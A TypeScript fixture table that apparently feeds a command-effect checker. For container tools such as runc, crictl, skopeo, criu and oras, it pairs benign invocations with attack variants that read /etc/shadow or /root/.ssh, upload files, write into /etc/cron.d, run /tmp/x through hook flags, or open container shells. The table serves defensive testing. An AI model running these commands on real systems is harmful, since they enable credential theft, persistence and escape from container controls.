import type { ExampleTable } from './example.ts'

export const containers2: ExampleTable = {
  'oras push': {
    use: 'oras push https://example.org/up notes.txt → read notes.txt; send https://example.org/up',
    attack: [
      'oras push https://example.org/up /etc/shadow → read /etc/shadow; send https://example.org/up',
      'oras push https://example.org/up notes.txt --config=/etc/shadow → read /etc/shadow; read notes.txt; send https://example.org/up',
    ],
  },
  regsync: {
    use: 'regsync -c app.conf → read app.conf',
    attack: 'regsync -c /etc/shadow → read /etc/shadow',
  },
  skopeo: {
    use: 'skopeo --policy=app.conf → read app.conf',
    attack: 'skopeo --policy=/etc/shadow → read /etc/shadow',
  },
  'skopeo copy': {
    use: 'skopeo copy notes.txt https://example.org/up → send https://example.org/up',
    attack:
      'skopeo copy notes.txt https://example.org/up --digestfile=/etc/cron.d/job → send https://example.org/up; write /etc/cron.d/job',
  },
  'skopeo sync': {
    use: 'skopeo sync notes.txt https://example.org/up → send https://example.org/up',
  },
  'umoci insert': {
    use: 'umoci insert src /app → read-tree src',
    attack: 'umoci insert /root/.ssh /app → read-tree /root/.ssh',
  },
  conmon: {
    use: 'conmon → nothing',
    attack: ['conmon --exit-command=/tmp/x → run /tmp/x', 'conmon -r /tmp/x → run /tmp/x'],
  },
  crictl: {
    use: 'crictl -c app.conf → read app.conf',
    attack: 'crictl -c /etc/shadow → read /etc/shadow',
  },
  'crictl exec': {
    use: 'crictl exec web cat notes.txt → read notes.txt',
    attack: 'crictl exec web cat /etc/shadow → read /etc/shadow',
  },
  'crictl pull': {
    use: 'crictl pull alpine → fetch crictl pull',
    attack: 'crictl pull alpine --pod-config=/etc/shadow → read /etc/shadow; fetch crictl pull',
  },
  'crictl runp': {
    use: 'crictl runp app.conf → read app.conf',
    attack: 'crictl runp /etc/shadow → read /etc/shadow',
  },
  criu: {
    use: 'criu -o out.txt → write out.txt',
    attack: [
      'criu -o /etc/cron.d/job → write /etc/cron.d/job',
      'criu --action-script=/tmp/x → run /tmp/x',
    ],
  },
  'ctr run': {
    use: 'ctr run alpine web cat notes.txt → read notes.txt',
    attack: [
      'ctr run alpine web cat /etc/shadow → read /etc/shadow',
      'ctr run --config=/etc/shadow alpine web cat notes.txt → read /etc/shadow; read notes.txt',
    ],
  },
  'ctr task exec': {
    use: 'ctr task exec web cat notes.txt → read notes.txt',
    attack: 'ctr task exec web cat /etc/shadow → read /etc/shadow',
  },
  'ignite exec': {
    use: 'ignite exec web cat notes.txt → read notes.txt',
    attack: 'ignite exec web cat /etc/shadow → read /etc/shadow',
  },
  'ignite ssh': {
    attack: 'ignite ssh web → session ignite ssh',
  },
  'kata-runtime exec': {
    attack: 'kata-runtime exec web → session kata-runtime exec',
  },
  'nsenter-container': {
    use: 'nsenter-container web cat notes.txt → read notes.txt',
    attack: [
      'nsenter-container web cat /etc/shadow → read /etc/shadow',
      'nsenter-container web bash → shell bash',
    ],
  },
  runc: {
    use: 'runc --log=out.txt → write out.txt',
    attack: [
      'runc --log=/etc/cron.d/job → write /etc/cron.d/job',
      'runc --criu=/tmp/x → run /tmp/x',
    ],
  },
  'runc create': {
    use: 'runc create web --pid-file=out.txt → write out.txt',
    attack: 'runc create web --pid-file=/etc/cron.d/job → write /etc/cron.d/job',
  },
  'runc exec': {
    use: 'runc exec web cat notes.txt → read notes.txt',
    attack: [
      'runc exec web cat /etc/shadow → read /etc/shadow',
      'runc exec -p /etc/shadow web cat notes.txt → read /etc/shadow; read notes.txt',
    ],
  },
  'runc run': {
    attack: 'runc run web --pid-file=/etc/cron.d/job → session runc run; write /etc/cron.d/job',
  },
}
